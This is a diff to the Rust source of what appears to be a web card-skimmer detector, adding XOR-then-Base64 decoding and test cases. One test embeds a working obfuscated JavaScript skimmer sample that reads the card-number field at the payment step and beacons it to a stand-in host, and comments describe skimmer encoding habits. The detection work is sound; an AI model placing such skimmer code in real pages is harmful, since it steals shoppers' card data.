@@ -369,11 +369,14 @@ fn decodings(s: &str) -> Vec<String> {
             base64::engine::general_purpose::STANDARD_NO_PAD,
             base64::engine::general_purpose::URL_SAFE_NO_PAD,
         ] {
-            if let Ok(bytes) = engine.decode(t)
-                && let Some(text) = printable(&bytes)
-            {
-                out.push(text);
-                break;
+            if let Ok(bytes) = engine.decode(t) {
+                if let Some(x) = unxor(&bytes) {
+                    out.push(x);
+                }
+                if let Some(text) = printable(&bytes) {
+                    out.push(text);
+                    break;
+                }
             }
         }
     }
@@ -389,6 +392,18 @@ fn decodings(s: &str) -> Vec<String> {
         }
     }
     out
+}
+
+/// The bytes XORed back with the one-byte key that turns the canary card number's XOR into
+/// it (`String.fromCharCode(c.charCodeAt(0) ^ 23)` before `btoa`, a skimmer's habit), when
+/// some key does.
+fn unxor(bytes: &[u8]) -> Option<String> {
+    (1..=255u8).find_map(|k| {
+        let needle: Vec<u8> = PAN.bytes().map(|b| b ^ k).collect();
+        memchr::memmem::find(bytes, &needle)?;
+        let plain: Vec<u8> = bytes.iter().map(|b| b ^ k).collect();
+        Some(String::from_utf8_lossy(&plain).into_owned())
+    })
 }
 
 /// Bytes as text when they mostly are (a decoding that produced noise is no view).
@@ -426,6 +441,13 @@ mod tests {
         assert_eq!(fields_in(&reversed, &reads()), vec!["#cc_number"]);
         let hex: String = PAN.bytes().map(|b| format!("{b:02x}")).collect();
         assert_eq!(fields_in(&hex, &reads()), vec!["#cc_number"]);
+        // XORed with a one-byte key before Base64.
+        let xored: Vec<u8> = format!("{PAN}|737").bytes().map(|b| b ^ 23).collect();
+        let sent = format!(
+            "d={}",
+            base64::engine::general_purpose::STANDARD.encode(xored)
+        );
+        assert_eq!(fields_in(&sent, &reads()), vec!["#cc_number", "#cc_cid"]);
         // A security code alone, or inside a longer number, is no match.
         assert!(fields_in("n=7370", &reads()).is_empty());
         assert!(fields_in("a=737", &reads()).is_empty());
@@ -544,6 +566,33 @@ mod tests {
         let code = layer(&obs, true).unwrap();
         assert!(code.contains("https://hook.x-relay.example/c"), "{code}");
         assert!(code.contains("#cc_number"), "{code}");
+    }
+
+    /// A customer's visit reaches what a skimmer for another platform waits for: the move to
+    /// the payment step (the URL's hash becomes `#payment`) and that platform's order button
+    /// (OpenCart's `#button-confirm`). Written with computed ids, as obfuscated code leaves
+    /// them: no literal hints. (Fields by id answer any id; the platform fields matter to
+    /// scripts that compare `e.target.id`: obfuscation/js-confuser-bigcommerce-ids.js.)
+    #[test]
+    fn the_payment_step_and_other_platforms_order_buttons() {
+        let src = r#"
+            (function () {
+              var id = ['button', 'confirm'].join('-'), f = 'cc' + 'Number';
+              window.addEventListener('hashchange', function () {
+                if (location.hash !== '#pay' + 'ment') return;
+                document.addEventListener('click', function (e) {
+                  if (!e.target || e.target.id !== id) return;
+                  var v = document.getElementById(f).value;
+                  new Image().src = 'https://px.step-watch.example/p?d=' + btoa(v);
+                }, true);
+              });
+            })();
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
+        let code = layer(&obs, true).unwrap();
+        assert!(code.contains("https://px.step-watch.example/p"), "{code}");
+        assert!(code.contains("#ccNumber"), "{code}");
     }
 
     /// Three things the stub page does as a browser would: a named AMD module runs, a
